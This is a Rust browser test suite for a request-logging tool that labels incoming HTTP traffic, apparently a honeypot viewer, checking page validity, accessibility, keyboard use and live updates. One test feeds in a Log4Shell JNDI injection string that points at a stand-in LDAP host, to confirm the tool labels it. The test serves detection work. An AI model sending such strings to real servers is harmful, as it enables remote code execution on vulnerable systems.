//! The page works for everyone in a real browser. Needs Chromium and more: `make test-browser`.

use std::process::Command;
use std::time::{Duration, Instant};

use anyhow::{Context, ensure};
use fantoccini::Locator;
use forever200_testkit::browser::{Browser, EVERYONE, LAPTOP, PHONE, Visitor, package};
use forever200_testkit::events::Events;
use forever200_testkit::probes;
use forever200_testkit::process::missing;
use forever200_testkit::stack::{FRONT_PORT, Setup};
use forever200_testkit::{Stack, exchange, get_json, loopback, until};
use serde_json::Value;

/// A second port, so that the list has a column for ports.
const SECOND_PORT: u16 = 2323;

pub(super) fn without_motion(visitor: Visitor) -> Visitor {
    Visitor {
        motion: false,
        ..visitor
    }
}

/// Starts a stack that keeps a history in a folder, and has a second port.
pub(super) async fn with_history(folder: &tempfile::TempDir) -> anyhow::Result<Stack> {
    let folder = folder.path().to_str().context("an odd path")?;
    let own = loopback();
    let bind = format!("{own}:{FRONT_PORT},{own}:{SECOND_PORT}");
    let setup = Setup {
        variables: &[("FOREVER200_HISTORY", folder), ("FOREVER200_BIND", &bind)],
        ..Setup::default()
    };
    Stack::start_at(own, setup).await
}

/// Starts a stack with some requests of each sort. Returns it and the addresses of all pages that
/// show them.
async fn full_ring(history: &tempfile::TempDir) -> anyhow::Result<(Stack, Vec<String>)> {
    let stack = with_history(history).await?;
    let mut sent = 0;
    let gzip = b"POST /z HTTP/1.1\r\nContent-Length: 9\r\nAuthorization: Basic YWRtaW46YWRtaW4x\r\n\r\n{\"a\":[1]}";
    let probes = probes::probes();
    for bytes in probes.iter().map(|(_, bytes)| &bytes[..]).chain([
        &gzip[..],
        b"GET /a HTTP/1.1\r\n\r\n",
        b"GET /a HTTP/1.1\r\n\r\n",
    ]) {
        stack.send(bytes).await?;
        sent += 1;
        stack.until_recorded(sent).await?;
    }
    let claims = b"GET /a HTTP/1.1\r\nX-Forwarded-For: 198.51.100.7, 2001:db8::7\r\n\r\n";
    exchange(stack.at(SECOND_PORT), claims).await?;
    sent += 1;
    stack.until_recorded(sent).await?;
    let mut pages: Vec<_> = (1..=sent)
        .map(|seq| format!("/home/requests/{seq}"))
        .collect();
    for page in [
        "/home",
        "/home?q=no+such&body=on",
        "/home?method=GET&path=%2F",
        "/home?category=exploit&as=AS64496",
        "/home/labels",
        "/home/explain",
        "/home/explain?b64=!",
        "/home/explain?example=on",
        "/home/labels?sort=seen&category=recon",
        "/home?limit=0&source=192.0.2.1&-q=x",
        "/home/history?since=yesterday-ish&as=AS64496",
        "/home/history?port=x",
        "/home/explain?b64=R0VUIC9hP2I9PGI-IEhUVFAvMS4xDQoNCg",
        "/home/requests/1/html",
        "/home?view=wall",
        "/home?view=wall&q=no+such&-method=GET",
        "/home/requests/9999",
        "/home?source=x",
        "/home/export.html",
        "/home/history",
        "/home/history?since=1h&-category=ordinary",
        "/home/history?q=no+such",
        "/home/collection",
        "/home/collection?sort=oldest&category=unrecognised",
        "/home/collection/log4shell",
        "/home/collection/no-such",
        "/home/sources",
        "/home/sources?category=exploit",
        "/home/sources/127.0.0.1",
        "/home/sources/192.0.2.1",
        "/home?port=2300-2399&claims=198.51.100.0%2F24",
        "/home/history?port=2323",
    ] {
        pages.push(page.to_owned());
    }
    until_kept(&stack, sent).await?;
    Ok((stack, pages))
}

/// Waits until the history has the request with this number.
async fn until_kept(stack: &Stack, seq: u64) -> anyhow::Result<()> {
    until(&format!("{seq} is in the history"), || async {
        let list = get_json(stack.front(), "/home/api/history?limit=1")
            .await
            .ok()?;
        (list["requests"][0]["seq"] == seq).then_some(())
    })
    .await
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs a validator: make test-browser"]
async fn every_page_is_valid_html() -> anyhow::Result<()> {
    let history = tempfile::tempdir()?;
    let (stack, mut pages) = full_ring(&history).await?;
    let empty = Stack::start().await?;
    let folder = tempfile::tempdir()?;
    std::fs::write(
        folder.path().join("empty.html"),
        empty.get("/home").await?.body,
    )?;
    pages.push("/home/requests/99999".to_owned());
    for (number, page) in pages.iter().enumerate() {
        std::fs::write(
            folder.path().join(format!("{number}.html")),
            stack.get(page).await?.body,
        )?;
    }
    let checked = Command::new("java")
        .args([
            "-jar",
            &package("vnu-jar/build/dist/vnu.jar")?.to_string_lossy(),
            "--skip-non-html",
        ])
        .arg(folder.path())
        .output()
        .context(missing("default-jre-headless"))?;
    let complaints = String::from_utf8_lossy(&checked.stderr);
    let first: Vec<_> = complaints.lines().take(20).collect();
    assert!(
        checked.status.success() && complaints.is_empty(),
        "{pages:?}\n{first:#?}"
    );
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: make test-browser"]
async fn every_page_suits_everyone() -> anyhow::Result<()> {
    let history = tempfile::tempdir()?;
    let (stack, pages) = full_ring(&history).await?;
    for (turn, visitor) in EVERYONE.into_iter().enumerate() {
        let browser = Browser::start(visitor).await?;
        // One visitor opens the page of a request. Two visitors open each other page, so that it
        // has each width and each choice of colours.
        let is_meant = |(index, page): &(usize, &String)| {
            let is_of_a_request = page.starts_with("/home/requests/");
            let is_their_turn = if is_of_a_request {
                index % 4 == turn
            } else {
                index % 2 == turn / 2
            };
            is_their_turn && !page.ends_with("html")
        };
        for (_, page) in pages.iter().enumerate().filter(is_meant) {
            browser
                .open(&format!("http://{}{page}", stack.front()))
                .await?;
            let [width, room] = ["document.documentElement.scrollWidth", "innerWidth"]
                .map(|it| format!("return {it}"));
            let (width, room) = (browser.run(&width).await?, browser.run(&room).await?);
            assert!(
                width.as_u64() <= room.as_u64(),
                "{page}, {visitor:?}: {width} pixels wide"
            );
            // Only links to records of vulnerabilities lead to other servers, and those are sent no
            // referrer.
            let strangers = "return [...document.querySelectorAll('[href], [src], [action]')].filter((it) => {
                const address = new URL(it.href || it.src || it.action);
                return address.origin !== location.origin
                    && !(address.href.startsWith('https://www.cve.org/CVERecord?id=CVE-') && it.rel === 'noreferrer');
            }).map((it) => it.outerHTML)";
            assert_eq!(
                browser.run(strangers).await?,
                Value::Array(vec![]),
                "{page}"
            );
            let found = browser.accessibility().await?;
            assert_eq!(found, Value::Array(vec![]), "{page}, {visitor:?}");
        }
    }
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: make test-browser"]
async fn a_browser_is_not_taken_for_an_attacker() -> anyhow::Result<()> {
    let stack = Stack::start().await?;
    let browser = Browser::start(LAPTOP).await?;
    for path in [
        "",
        "about",
        "search?q=select+shoes",
        "blog/2026/11/hello?utm_source=mail",
    ] {
        browser
            .open(&format!("http://{}/{path}", stack.front()))
            .await?;
    }
    let list = stack.until_recorded(4).await?;
    for request in list["requests"].as_array().context("no list")? {
        for label in request["labels"].as_array().context("no labels")? {
            ensure!(
                label["category"] == "ordinary",
                "{}: {label}",
                request["summary"]
            );
        }
    }
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: make test-browser"]
async fn without_javascript_it_shows_and_filters_the_same() -> anyhow::Result<()> {
    let history = tempfile::tempdir()?;
    let (stack, _) = full_ring(&history).await?;
    let browser = Browser::start(Visitor {
        javascript: false,
        ..PHONE
    })
    .await?;
    browser
        .open(&format!("http://{}/home", stack.front()))
        .await?;
    let text = browser
        .client
        .find(Locator::Css("body"))
        .await?
        .text()
        .await?;
    assert!(text.contains("Reload") && !text.contains("Live"), "{text}");
    // Two similar requests are one row until it is opened.
    let rows = || async { visible_rows(&browser).await };
    let folded = rows().await?;
    browser
        .client
        .find(Locator::Css(".fold input"))
        .await?
        .click()
        .await?;
    assert!(rows().await? > folded);
    // A filter is set by hand, and by a link in a row.
    browser
        .client
        .find(Locator::Css("[name=q]"))
        .await?
        .send_keys("YWRtaW46")
        .await?;
    browser
        .client
        .find(Locator::Css("search button"))
        .await?
        .click()
        .await?;
    until_at(&browser, "q=YWRtaW46").await?;
    assert_eq!(rows().await?, 1);
    browser
        .client
        .find(Locator::Css(".kind"))
        .await?
        .click()
        .await?;
    until_at(&browser, "/home?q=YWRtaW46&method=POST").await?;
    assert_eq!(rows().await?, 1);
    browser
        .client
        .find(Locator::Css("a.to"))
        .await?
        .click()
        .await?;
    until_at(&browser, "/home/requests/").await?;
    let hidden = browser
        .client
        .find(Locator::Css("#decoded ~ details summary"))
        .await?;
    hidden.click().await?;
    let body = browser
        .client
        .find(Locator::Css("main"))
        .await?
        .text()
        .await?;
    assert!(body.contains("admin:admin1"), "{body}");
    let log = browser.log().await?;
    assert!(log.is_empty(), "{log:?}");
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: make test-browser"]
async fn a_search_keeps_all_conditions_without_javascript() -> anyhow::Result<()> {
    let history = tempfile::tempdir()?;
    let (stack, _) = full_ring(&history).await?;
    let browser = Browser::start(Visitor {
        javascript: false,
        ..LAPTOP
    })
    .await?;
    let query = "category=exploit&category=crawler&q=a&q=b%22%26&-label=x&-label=y";
    for page in ["home", "home/history", "home/collection"] {
        let address = format!("http://{}/{page}?{query}", stack.front());
        browser.open(&address).await?;
        let button = browser.client.find(Locator::Css("search button")).await?;
        button.click().await?;
        // The address of a form differs, because the form sends its empty fields too.
        until_at(&browser, "country=").await?;
        let asked = browser.client.current_url().await?;
        let mut asked: Vec<_> = asked.query_pairs().into_owned().collect();
        asked.retain(|(name, value)| !value.is_empty() && name != "sort");
        asked.sort();
        let mut expected: Vec<_> = url::form_urlencoded::parse(query.as_bytes())
            .into_owned()
            .collect();
        expected.sort();
        assert_eq!(asked, expected, "{page}");
        // Each condition can be removed.
        let chips = browser.client.find_all(Locator::Css(".chip")).await?;
        assert_eq!(chips.len(), expected.len(), "{page}");
    }
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: make test-browser"]
async fn a_request_is_copied_as_it_was_sent() -> anyhow::Result<()> {
    let stack = Stack::start().await?;
    stack
        .send(b"\nPOST /<x>&amp; HTTP/1.1\r\nHost: x\r\nX-Odd: a\tb\xff\r\nContent-Length: 6\r\n\r\na\rb\nc\0")
        .await?;
    stack.until_recorded(1).await?;
    stack
        .send(&[&b"\x05\x00\x0b\xd8\xa8"[..], &[0; 204]].concat())
        .await?;
    stack.until_recorded(2).await?;
    let browser = Browser::start(LAPTOP).await?;
    let page = |seq: u32| format!("http://{}/home/requests/{seq}", stack.front());
    let area = "return document.querySelector('[aria-label=\"As text\"]').value";
    let selected = "getSelection().selectAllChildren(document.querySelector('#raw + pre'));
        const selected = getSelection().toString(); return selected";
    browser.open(&page(1)).await?;
    let sent =
        "\nPOST /<x>&amp; HTTP/1.1\nHost: x\nX-Odd: a\\tb\\xff\nContent-Length: 6\n\na\\rb\nc\\x00";
    assert_eq!(browser.run(area).await?, sent);
    assert_eq!(browser.run(selected).await?, sent);
    // For a request that is not text, the hex view comes first, and the other views have escapes.
    browser.open(&page(2)).await?;
    let first = "return [...document.querySelectorAll('pre')].map((it) => it.className)[0]";
    assert_eq!(browser.run(first).await?, "hex");
    let zeros = "\\x00".repeat(204);
    assert_eq!(
        browser.run(area).await?,
        format!("\\x05\\x00\\x0b\\xd8\\xa8{zeros}")
    );
    let raw = browser
        .run("return document.querySelector('#raw + pre').textContent")
        .await?;
    assert_eq!(raw, "\\x05\\x00\\x0b\\xd8\\xa8 \\x00 ×204 ");
    Ok(())
}

/// Waits until the browser's address contains this text.
async fn until_at(browser: &Browser, part: &str) -> anyhow::Result<()> {
    until(part, || async {
        browser
            .client
            .current_url()
            .await
            .ok()?
            .as_str()
            .contains(part)
            .then_some(())
    })
    .await
}

async fn visible_rows(browser: &Browser) -> anyhow::Result<usize> {
    let mut visible = 0;
    for row in browser
        .client
        .find_all(Locator::Css("#requests tbody tr"))
        .await?
    {
        visible += usize::from(row.is_displayed().await?);
    }
    Ok(visible)
}

fn get(path: &str) -> Vec<u8> {
    format!("GET {path} HTTP/1.1\r\nHost: x\r\n\r\n").into_bytes()
}

/// Returns a stack, and a page that follows its requests and has got the first event.
async fn following() -> anyhow::Result<(Stack, Browser)> {
    let stack = Stack::start().await?;
    let browser = Browser::start(LAPTOP).await?;
    browser
        .follow(&format!("http://{}/home", stack.front()))
        .await?;
    Ok((stack, browser))
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: make test-browser"]
async fn a_new_request_slides_in_within_half_a_second() -> anyhow::Result<()> {
    let (stack, browser) = following().await?;
    let mut waits = Vec::new();
    for number in 1..=11 {
        let sent = Instant::now();
        stack.send(&get(&format!("/{number}/x"))).await?;
        browser
            .until(
                "the row is there",
                &format!("document.getElementById('r{number}')?.checkVisibility() ?? false"),
            )
            .await?;
        waits.push(sent.elapsed());
    }
    // The first row is slow because the template is used for the first time. On a busy machine, one
    // more may be slow.
    waits.sort_unstable();
    assert!(waits[9] < Duration::from_millis(500), "{waits:?}");
    let text = browser.text().await?;
    assert!(
        !text.contains("No requests yet") && text.contains("/11/x"),
        "{text}"
    );
    // The list must be as a reload shows it: folded, in order.
    let shape = "[...document.querySelectorAll('#requests tbody')].map((group) => [...group.rows].map((row) => row.id).join() + ' ' + (group.querySelector('.fold')?.innerText.trim() ?? '')).join(' ')";
    let live = browser.run(&format!("return {shape}")).await?;
    browser.client.refresh().await?;
    assert_eq!(live, browser.run(&format!("return {shape}")).await?);
    let first: String = (1..=11).rev().map(|seq| format!("r{seq},")).collect();
    assert_eq!(
        live,
        format!("{} ×11 from 1 source", first.trim_end_matches(','))
    );
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: make test-browser"]
async fn what_is_being_read_does_not_move() -> anyhow::Result<()> {
    let (stack, browser) = following().await?;
    for number in 1..=101_u64 {
        stack
            .send(&get(&format!(
                "/{}",
                char::from(b'a' + (number % 26) as u8)
            )))
            .await?;
        stack.until_recorded(number).await?;
    }
    browser
        .until(
            "all rows are there",
            "document.getElementById('r101') !== null",
        )
        .await?;
    browser.run("scrollTo(0, 600)").await?;
    let place = "return document.getElementById('r50').getBoundingClientRect().top";
    let before = browser.run(place).await?;
    for number in 1..=12 {
        stack.send(&get(&format!("/new/{number}"))).await?;
    }
    browser
        .until(
            "the pill says so",
            "document.querySelector('#more').innerText === '12 new'",
        )
        .await?;
    let moved = browser
        .run(place)
        .await?
        .as_f64()
        .zip(before.as_f64())
        .map(|(after, before)| (after - before).abs());
    assert!(moved < Some(1.0), "by {moved:?} pixels");
    browser
        .client
        .find(Locator::Css("#more"))
        .await?
        .click()
        .await?;
    browser
        .until(
            "they are shown",
            "document.getElementById('r113').checkVisibility()",
        )
        .await?;
    assert_eq!(
        browser
            .run("return [scrollY, document.querySelectorAll('#requests tbody tr').length]")
            .await?,
        serde_json::json!([0, 101])
    );
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: make test-browser"]
async fn a_page_survives_a_killed_viewer() -> anyhow::Result<()> {
    let (stack, browser) = following().await?;
    browser.run("window.untouched = true").await?;
    stack.send(&get("/before")).await?;
    browser
        .until(
            "the first is there",
            "document.getElementById('r1') !== null",
        )
        .await?;
    stack.supervisorctl(&["stop", "viewer"])?;
    browser
        .until(
            "the page says that it is cut off",
            "document.querySelector('#live').innerText.startsWith('Connection lost')",
        )
        .await?;
    stack.send(&get("/meanwhile")).await?;
    stack.supervisorctl(&["start", "viewer"])?;
    browser
        .until(
            "the page goes on",
            "document.getElementById('r2')?.checkVisibility() ?? false",
        )
        .await?;
    browser
        .until(
            "the page says so",
            "document.querySelector('#live').innerText.startsWith('Live')",
        )
        .await?;
    // And once more, with SIGKILL.
    stack.kill("viewer").await?;
    stack.send(&get("/after")).await?;
    browser
        .until(
            "the page goes on",
            "document.getElementById('r3')?.checkVisibility() ?? false",
        )
        .await?;
    assert_eq!(browser.run("return window.untouched").await?, true);
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: make test-browser"]
async fn a_page_to_which_nothing_comes_stays_live() -> anyhow::Result<()> {
    let (stack, browser) = following().await?;
    let observe = "window.told = [];
        const observer = new MutationObserver(() => told.push(document.querySelector('#live').dataset.state));
        observer.observe(document.querySelector('#live'), { attributes: true })";
    browser.run(observe).await?;
    browser.requested().await?;
    // Four events take 20 s. A page reports a lost connection after 15 s without an event.
    let mut events = Events::open(stack.front(), "/home/events?format=html", "").await?;
    for _ in 0..4 {
        events
            .next("alive")
            .await?
            .context("the stream has ended")?;
    }
    assert_eq!(browser.run("return told").await?, serde_json::json!([]));
    let requested = browser.requested().await?;
    ensure!(requested.is_empty(), "{requested:?}");
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: make test-browser"]
async fn the_keyboard_does_it_all() -> anyhow::Result<()> {
    let (stack, browser) = following().await?;
    for path in ["/one", "/two", "/three"] {
        stack.send(&get(path)).await?;
    }
    browser
        .until(
            "all rows are there",
            "document.getElementById('r3') !== null",
        )
        .await?;
    let press = |key: &'static str| async {
        browser
            .client
            .active_element()
            .await?
            .send_keys(key)
            .await
            .map_err(anyhow::Error::from)
    };
    let focused = || async {
        browser
            .run("return document.activeElement.innerText ?? ''")
            .await
    };
    press("?").await?;
    browser
        .until(
            "the keys are listed",
            "document.querySelector('#keys').open",
        )
        .await?;
    press("\u{e00c}").await?;
    browser
        .until("Escape closes", "!document.querySelector('#keys').open")
        .await?;
    press("j").await?;
    press("j").await?;
    assert_eq!(focused().await?, "/two");
    press("k").await?;
    assert_eq!(focused().await?, "/three");
    press("k").await?;
    assert_eq!(focused().await?, "/three", "the first row is the end");
    press("p").await?;
    browser
        .until(
            "it is paused",
            "document.querySelector('#live').dataset.state === 'paused'",
        )
        .await?;
    stack.send(&get("/four")).await?;
    stack.until_recorded(4).await?;
    press("p").await?;
    // The row with the focus stays where it is.
    browser
        .until(
            "the pill says so",
            "document.querySelector('#more').innerText === '1 new'",
        )
        .await?;
    press("/").await?;
    press("q?p").await?;
    assert_eq!(
        browser.run("return document.activeElement.value").await?,
        "q?p"
    );
    press("\u{e00c}").await?;
    press("j").await?;
    press("\u{e007}").await?;
    browser
        .until(
            "Enter opens",
            "location.pathname.startsWith('/home/requests/')",
        )
        .await?;
    let log = browser.log().await?;
    assert!(log.is_empty(), "{log:?}");
    Ok(())
}

/// `/` is the key for the search of a page; on a page without one it leads to the list's search.
#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: make test-browser"]
async fn a_slash_leads_to_the_search_that_announces_it() -> anyhow::Result<()> {
    let history = tempfile::tempdir()?;
    let stack = with_history(&history).await?;
    stack.send(&get("/one")).await?;
    stack.until_recorded(1).await?;
    let browser = Browser::start(LAPTOP).await?;
    let origin = format!("http://{}", stack.front());
    for (page, reached) in [
        ("/home/history?since=1h", "/home/history"),
        ("/home/collection?sort=new", "/home/collection"),
        ("/home/labels", "/home/labels"),
        ("/home/requests/1", "/home"),
        ("/home?path=%2F", "/home"),
    ] {
        browser.open(&format!("{origin}{page}")).await?;
        press(&browser, "/").await?;
        let reached =
            format!("document.activeElement.name === 'q' && location.pathname === '{reached}'");
        browser.until(page, &reached).await?;
    }
    // The choice of time zones is not a text field.
    browser.open(&format!("{origin}/home")).await?;
    let choice = browser
        .client
        .find(Locator::Css("[name=times]:checked"))
        .await?;
    choice.send_keys("?").await?;
    browser
        .until(
            "the keys are listed",
            "document.querySelector('#keys').open",
        )
        .await
}

/// Parts that are folded on the screen are printed.
#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: make test-browser"]
async fn paper_has_every_request() -> anyhow::Result<()> {
    let stack = Stack::start().await?;
    for number in 1..=3 {
        stack.send(&get(&format!("/{number}/x"))).await?;
    }
    stack.until_recorded(3).await?;
    let browser = Browser::start(LAPTOP).await?;
    browser
        .open(&format!("http://{}/home", stack.front()))
        .await?;
    assert_eq!(visible_rows(&browser).await?, 1);
    let paper = serde_json::json!({ "media": "print" });
    browser
        .devtools("Emulation.setEmulatedMedia", paper)
        .await?;
    assert_eq!(visible_rows(&browser).await?, 3);
    Ok(())
}

/// Presses keys where the focus is.
async fn press(browser: &Browser, keys: &str) -> anyhow::Result<()> {
    let focused = browser.client.active_element().await?;
    Ok(focused.send_keys(keys).await?)
}

/// Presses each single key of the page, and checks that none of them does anything.
async fn no_key_acts(browser: &Browser) -> anyhow::Result<()> {
    let state = "return [location.pathname, document.activeElement.outerHTML.slice(0, 60),
        document.querySelector('#keys').open, document.querySelector('#live')?.dataset.state]";
    let before = browser.run(state).await?;
    for key in ["j", "k", "p", "/", "?"] {
        press(browser, key).await?;
        assert_eq!(browser.run(state).await?, before, "{key}");
    }
    let announced = "return document.querySelectorAll('[aria-keyshortcuts]').length";
    assert_eq!(browser.run(announced).await?, 0);
    Ok(())
}

/// Opens the list of keys with its button, and presses the button before the one that closes it.
async fn turn_keys(browser: &Browser) -> anyhow::Result<()> {
    let button = browser.client.find(Locator::Css("#help")).await?;
    if !button.is_displayed().await? {
        // On a phone, the button is in the menu.
        let menu = browser.client.find(Locator::Css("header summary")).await?;
        menu.click().await?;
    }
    button.click().await?;
    let is_open =
        "document.querySelector('#keys').open && document.activeElement.innerText === 'Close'";
    browser.until("the keys are listed", is_open).await?;
    // Shift and Tab, then release Shift.
    press(browser, "\u{e008}\u{e004}\u{e008}").await?;
    let is_there = "document.activeElement.id === 'single-keys'";
    browser.until("the switch is before it", is_there).await?;
    press(browser, " ").await?;
    let found = browser.accessibility().await?;
    assert_eq!(found, Value::Array(vec![]));
    press(browser, "\u{e00c}").await?;
    let is_closed = "!document.querySelector('#keys').open";
    browser.until("Escape closes", is_closed).await?;
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: make test-browser"]
async fn single_keys_can_be_turned_off_and_stay_so() -> anyhow::Result<()> {
    let stack = Stack::start().await?;
    for path in ["/one", "/two"] {
        stack.send(&get(path)).await?;
    }
    stack.until_recorded(2).await?;
    let home = format!("http://{}/home", stack.front());
    let focused = "return document.activeElement.innerText";
    for visitor in [LAPTOP, PHONE] {
        let browser = Browser::start(visitor).await?;
        browser.follow(&home).await?;
        turn_keys(&browser).await?;
        no_key_acts(&browser).await?;
        // The choice holds on the next page and at the next visit.
        browser.open(&format!("{home}/requests/1")).await?;
        no_key_acts(&browser).await?;
        browser.follow(&home).await?;
        no_key_acts(&browser).await?;
        turn_keys(&browser).await?;
        press(&browser, "j").await?;
        assert_eq!(browser.run(focused).await?, "/two");
        let announced = "return document.querySelector('#live button').ariaKeyShortcuts";
        assert_eq!(browser.run(announced).await?, "p");
        let log = browser.log().await?;
        ensure!(log.is_empty(), "{log:?}");
    }
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: make test-browser"]
async fn a_browser_that_keeps_nothing_for_sites_can_turn_single_keys_off() -> anyhow::Result<()> {
    let (stack, browser) = following().await?;
    let refuse = "for (const name of ['localStorage', 'sessionStorage'])
        Object.defineProperty(window, name, { get() { throw new DOMException('no', 'SecurityError') } })";
    let source = serde_json::json!({ "source": refuse });
    browser
        .devtools("Page.addScriptToEvaluateOnNewDocument", source)
        .await?;
    stack.send(&get("/one")).await?;
    stack.until_recorded(1).await?;
    let home = format!("http://{}/home", stack.front());
    browser.follow(&home).await?;
    turn_keys(&browser).await?;
    no_key_acts(&browser).await?;
    turn_keys(&browser).await?;
    press(&browser, "j").await?;
    let focused = "return document.activeElement.innerText";
    assert_eq!(browser.run(focused).await?, "/one");
    turn_keys(&browser).await?;
    // Without storage, the next page cannot know the choice, but it works all the same.
    browser.follow(&home).await?;
    press(&browser, "j").await?;
    assert_eq!(browser.run(focused).await?, "/one");
    let log = browser.log().await?;
    ensure!(log.is_empty(), "{log:?}");
    Ok(())
}

#[tokio::test(flavor = "multi_thread")]
#[ignore = "needs Chromium: make test-browser"]
async fn a_request_is_pasted_chosen_or_opened_by_a_link() -> anyhow::Result<()> {
    let stack = Stack::start().await?;
    let browser = Browser::start(LAPTOP).await?;
    let form = format!("http://{}/home/explain", stack.front());
    let lines = "GET /?x=${jndi:ldap://192.0.2.1/a} HTTP/1.1\nHost: x\n\n";
    let has_label = "document.querySelector('#labels ~ article')?.innerText.includes('Log4Shell')";
    let press = || async {
        browser
            .client
            .find(Locator::Css(".explain button"))
            .await?
            .click()
            .await
    };
    browser.open(&form).await?;
    let text = browser.client.find(Locator::Css("#request")).await?;
    text.send_keys(lines).await?;
    press().await?;
    browser.until("it is explained", has_label).await?;
    let ends = "document.querySelector('#raw + pre').textContent.includes('HTTP/1.1\\\\r\\\\n')";
    browser
        .until("with the line ends of a request", ends)
        .await?;
    browser
        .client
        .find(Locator::LinkText("Link that contains its bytes"))
        .await?
        .click()
        .await?;
    until_at(&browser, "b64=").await?;
    browser.until("the link says the same", has_label).await?;
    let file = tempfile::NamedTempFile::new()?;
    std::fs::write(file.path(), lines)?;
    browser.open(&form).await?;
    let chosen = browser.client.find(Locator::Css("#file")).await?;
    chosen.send_keys(&file.path().to_string_lossy()).await?;
    press().await?;
    browser.until("so is a file", has_label).await?;
    let log = browser.log().await?;
    ensure!(log.is_empty(), "{log:?}");
    Ok(())
}
